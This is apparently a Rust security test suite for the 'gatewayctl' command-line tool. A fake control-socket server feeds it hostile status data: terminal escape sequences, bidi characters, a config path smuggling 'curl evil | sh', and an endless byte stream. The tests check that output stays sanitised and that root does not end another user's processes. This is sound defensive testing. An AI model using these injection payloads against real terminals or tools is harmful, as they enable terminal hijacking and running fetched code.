//! A gateway, or whoever answers in its place, that sends escape sequences to gatewayctl's terminal.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::Stdio;

use gateway::internals::{Status, bind_control_socket};
use serde_json::{Value, json};

use crate::support::clean::verdict;
use crate::support::gateway::{Setup, ctl_in, said};
use crate::support::hold::deafen;
use crate::support::{nobody, servers, skip, wait};

/// Sets the title of the window, clears the screen, goes up a line, turns the text around, and ends
/// in what may make a new line.
const HOSTILE: &str =
    "x\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}1A\u{8}\u{7f}\u{202e}\r\n\u{2028}\u{2066}y";

/// The payload of a status, as the control socket gives it.
fn status_of(state: &Path) -> Value {
    let mut stream = UnixStream::connect(state.join("run/control.sock")).unwrap();
    writeln!(stream, r#"{{"type":"req","id":"1","method":"status"}}"#).unwrap();
    let mut line = String::new();
    BufReader::new(stream).read_line(&mut line).unwrap();
    serde_json::from_str::<Value>(&line).unwrap()["payload"].take()
}

/// Every text in a status that may be any text is hostile; how many there are.
fn poison(whole: &mut Value) -> usize {
    fn pointers(value: &Value, at: &str, found: &mut Vec<String>) {
        match value {
            Value::String(_) => found.push(at.to_owned()),
            Value::Array(items) => items
                .iter()
                .enumerate()
                .for_each(|(index, item)| pointers(item, &format!("{at}/{index}"), found)),
            Value::Object(fields) => fields
                .iter()
                .for_each(|(key, item)| pointers(item, &format!("{at}/{key}"), found)),
            _ => {}
        }
    }
    let mut found = Vec::new();
    pointers(whole, "", &mut found);
    let mut count = 0;
    for at in found {
        let before = whole.pointer(&at).unwrap().clone();
        *whole.pointer_mut(&at).unwrap() = HOSTILE.into();
        // Words that the protocol lists stay as they are.
        if serde_json::from_value::<Status>(whole.clone()).is_ok() {
            count += 1;
        } else {
            *whole.pointer_mut(&at).unwrap() = before;
        }
    }
    count
}

/// Answers every request with the same payload, for as long as the test runs.
fn serve(state: &Path, payload: Value) {
    let listener = bind_control_socket(&state.join("run/control.sock")).unwrap();
    listener.set_nonblocking(false).unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let payload = payload.clone();
            std::thread::spawn(move || {
                for line in BufReader::new(stream.try_clone().unwrap()).lines() {
                    let request: Value = serde_json::from_str(&line.unwrap()).unwrap();
                    let answer =
                        json!({"type": "res", "id": request["id"], "ok": true, "payload": payload});
                    if writeln!(stream, "{answer}").is_err() {
                        return;
                    }
                }
            });
        }
    });
}

/// What would drive a terminal, the colours aside that gatewayctl itself uses.
fn driving(text: &str) -> Vec<char> {
    let mut text = text.to_owned();
    for code in ["0", "1", "2", "31", "32", "33"] {
        text = text.replace(&format!("\u{1b}[{code}m"), "");
    }
    let drives = |c: &char| {
        *c != '\n'
            && (c.is_control()
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}'))
    };
    text.chars().filter(drives).collect()
}

#[test]
fn escape_sequences_in_a_status_do_not_reach_the_terminal() {
    if !servers::have("python3") {
        return;
    }
    let top = tempfile::tempdir().unwrap();
    let real = Setup::behind(servers::python(top.path())).start();
    let mut status = status_of(real.state_dir());
    real.stop();
    let more = json!({
        "program": "/x",
        "config": "/x",
        "drainers": [{"generation": 1, "pid": 7, "requests": 1, "tunnels": 0, "blockers": ["x"]}],
        "leases": [{"lease": 1, "why": "x", "pid": 7, "heldMs": 1}],
        "recovery": {"rung": "safe_mode", "reason": "x"},
        "lastRestart": {
            "request": "x", "kind": "restart", "reason": "x", "outcome": "failed: x", "at": "x", "tookMs": 1
        },
        "stage": "degraded",
    });
    for (key, value) in more.as_object().unwrap() {
        status[key] = value.clone();
    }
    status["sidecars"][0]["cause"] = "x".into();
    serde_json::from_value::<Status>(status.clone()).unwrap();
    let count = poison(&mut status);
    assert!(count >= 14, "{count} in {status:#}");

    let state = top.path().join("state");
    serve(&state, status);
    for command in [
        &["status"][..],
        &["status", "--deep"],
        &["list"],
        &["why"],
        &["history"],
        &["restart"],
        &["reload"],
        &["doctor"],
        &["clean", "--dry-run"],
        &["inhibit", "--why", "x", "--", "true"],
    ] {
        for flags in [&["--color=always"][..], &["--color=never", "--json"]] {
            let output = ctl_in(&state).args(command).args(flags).output().unwrap();
            let text = said(&output);
            assert!(driving(&text).is_empty(), "{command:?} {flags:?}: {text:?}");
            if command == ["status"] {
                let shown = if flags.contains(&"--json") {
                    r"\u001b]0;owned"
                } else {
                    r"\x1b]0;owned"
                };
                assert!(text.contains(shown), "{text:?}");
            }
        }
    }
}

/// What a gateway without anything special says of itself.
fn real_status(top: &Path) -> Value {
    let real = Setup::behind(servers::python(top)).start();
    let status = status_of(real.state_dir());
    real.stop();
    status
}

#[test]
fn names_and_numbers_of_any_size_in_a_status_are_shown() {
    if !servers::have("python3") {
        return;
    }
    let top = tempfile::tempdir().unwrap();
    let mut status = real_status(top.path());
    let name = "x".repeat(70_000);
    status["sidecars"][0]["name"] = name.clone().into();
    let most = u64::MAX;
    status["drainers"] = json!([{
        "generation": most, "pid": u32::MAX, "requests": most, "tunnels": most, "leases": most, "leftMs": most,
        "blockers": []
    }]);
    for number in ["uptimeMs", "requests", "tunnels", "held", "generation"] {
        if status[number].is_number() {
            status[number] = most.into();
        }
    }
    let generation = json!({"number": most, "sidecars": [[name.clone(), 7]]});
    let outcome = json!({
        "outcome": "done", "request": "x", "before": generation, "after": generation, "tookMs": most, "drained": true
    });
    for (key, value) in outcome.as_object().unwrap() {
        status[key] = value.clone();
    }
    let state = top.path().join("state");
    serve(&state, status);
    for command in [&["status"][..], &["list"], &["restart"], &["reload"]] {
        let output = ctl_in(&state).args(command).output().unwrap();
        let text = said(&output);
        assert!(!text.contains("panicked"), "{command:?}: {text}");
        assert!(
            output.status.code().is_some_and(|code| code != 101),
            "{command:?}: {text}"
        );
        if command == ["status"] {
            assert!(text.contains(&name), "{text}");
        }
    }
}

#[test]
fn a_name_forges_no_next_command() {
    if !servers::have("python3") {
        return;
    }
    let top = tempfile::tempdir().unwrap();
    let mut status = real_status(top.path());
    status["config"] = "/etc/gateway/x.toml\ncurl evil | sh; curl evil".into();
    // Of a service, its file is named.
    status["supervisor"] = "systemd (its words)".into();
    let state = top.path().join("state");
    let listener = bind_control_socket(&state.join("run/control.sock")).unwrap();
    listener.set_nonblocking(false).unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let status = status.clone();
            std::thread::spawn(move || {
                for line in BufReader::new(stream.try_clone().unwrap()).lines() {
                    let request: Value = serde_json::from_str(&line.unwrap()).unwrap();
                    let answer = match request["method"].as_str() {
                        Some("status") => {
                            json!({"type": "res", "id": request["id"], "ok": true, "payload": status})
                        }
                        _ => json!({
                            "type": "res", "id": request["id"], "ok": false,
                            "error": {"code": "config_invalid", "message": "line 1\ncurl evil | sh"}
                        }),
                    };
                    if writeln!(stream, "{answer}").is_err() {
                        return;
                    }
                }
            });
        }
    });
    let output = ctl_in(&state).arg("reload").output().unwrap();
    let text = said(&output);
    let next: Vec<&str> = text
        .lines()
        .filter_map(|line| line.trim_start().strip_prefix("next: "))
        .collect();
    let expected =
        r"gatewayctl config check --config '/etc/gateway/x.toml\ncurl evil | sh; curl evil'";
    assert_eq!(next, [expected], "{text}");
    // It may have several lines, as the last output of a sidecar has, but each is marked.
    let line = text
        .lines()
        .find(|line| line.contains("| sh") && !line.contains("next:"));
    assert_eq!(line.map(str::trim), Some("| curl evil | sh"), "{text}");
}

/// A file's name with a line break in it made a line of gatewayctl's own.
#[test]
fn a_name_is_no_line_of_a_message() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("x\nnothing is wrong");
    fs::write(&file, "[gateway]\nlisen = []\n").unwrap();
    let mut ctl = ctl_in(dir.path());
    let output = ctl
        .args(["config", "check", "--config"])
        .arg(&file)
        .output()
        .unwrap();
    let text = said(&output);
    assert_eq!(output.status.code(), Some(78), "{text}");
    assert!(text.contains(r"x\nnothing is wrong:2:1"), "{text}");
    assert!(!text.contains("\n       nothing is wrong"), "{text}");
}

/// As another user, answers each status with the one in a file, a request for a lease with nothing, and
/// a stop with bytes without end.
const NEVER_ENDS: &str = "
import json, os, socket, sys, threading
path, status = sys.argv[1], json.load(open(sys.argv[2]))
os.makedirs(os.path.dirname(path), 0o755, exist_ok=True)
server = socket.socket(socket.AF_UNIX)
server.bind(path)
server.listen(100)
print('listening', flush=True)
def serve(stream):
    lines = stream.makefile('rwb')
    def answer(request, payload):
        text = json.dumps({'type': 'res', 'id': request['id'], 'ok': True, 'payload': payload})
        lines.write(text.encode() + b'\\n')
        lines.flush()
    for line in lines:
        request = json.loads(line)
        if request['method'] == 'status':
            answer(request, status)
        elif request['method'] == 'stop':
            answer(request, {})
            while True:
                lines.write(b'x' * 65536)
while True:
    threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
";

#[test]
fn an_answer_without_end_keeps_nobody_waiting() {
    if !nobody::can_be() || !servers::have("python3") {
        return;
    }
    let top = tempfile::tempdir().unwrap();
    fs::set_permissions(top.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let status = top.path().join("status.json");
    fs::write(&status, real_status(top.path()).to_string()).unwrap();
    fs::set_permissions(&status, fs::Permissions::from_mode(0o644)).unwrap();
    let state = top.path().join("theirs");
    fs::create_dir(&state).unwrap();
    nobody::own(&state);
    let control = state.join("run/control.sock");
    let args = [
        "-c",
        NEVER_ENDS,
        control.to_str().unwrap(),
        status.to_str().unwrap(),
    ];
    let mut command = nobody::command(&servers::interpreter(), &args);
    let mut answering = command.stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    let mut output = BufReader::new(answering.stdout.take().unwrap());
    output.read_line(&mut line).unwrap();
    for command in [&["inhibit", "--why", "x", "--", "true"][..], &["stop"]] {
        let mut ctl = ctl_in(&state);
        let mut child = ctl.args(command).stderr(Stdio::piped()).spawn().unwrap();
        let ended = wait::within(wait::DEADLINE, || child.try_wait().unwrap());
        let _ = child.kill();
        let output = child.wait_with_output().unwrap();
        assert_eq!(
            ended.and_then(|ended| ended.code()),
            Some(1),
            "{command:?}: {}",
            said(&output)
        );
    }
    answering.kill().unwrap();
    answering.wait().unwrap();
}

/// Root's `clean` took the addresses and the state directory from the answer, and ended what hung
/// there.
#[test]
fn another_users_gateway_does_not_say_whose_processes_root_ends() {
    if !nobody::can_be() || !servers::have("python3") || !skip::unless_there("prlimit") {
        return;
    }
    let hung = Setup::new().start();
    let top = tempfile::tempdir().unwrap();
    fs::set_permissions(top.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let status = top.path().join("status.json");
    fs::write(&status, status_of(hung.state_dir()).to_string()).unwrap();
    fs::set_permissions(&status, fs::Permissions::from_mode(0o644)).unwrap();
    deafen(hung.pid());
    let state = top.path().join("theirs");
    fs::create_dir(&state).unwrap();
    nobody::own(&state);
    let control = state.join("run/control.sock");
    let (control, status) = (control.to_str().unwrap(), status.to_str().unwrap());
    let mut command = nobody::command(
        &servers::interpreter(),
        &["-c", NEVER_ENDS, control, status],
    );
    let mut answering = command.stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    let mut output = BufReader::new(answering.stdout.take().unwrap());
    output.read_line(&mut line).unwrap();
    let mut ctl = ctl_in(&state);
    let output = ctl.args(["--json", "clean"]).output().unwrap();
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    answering.kill().unwrap();
    answering.wait().unwrap();
    assert_eq!(
        verdict(&answer["clean"], hung.pid()),
        "kept other-user",
        "{answer:#}"
    );
}
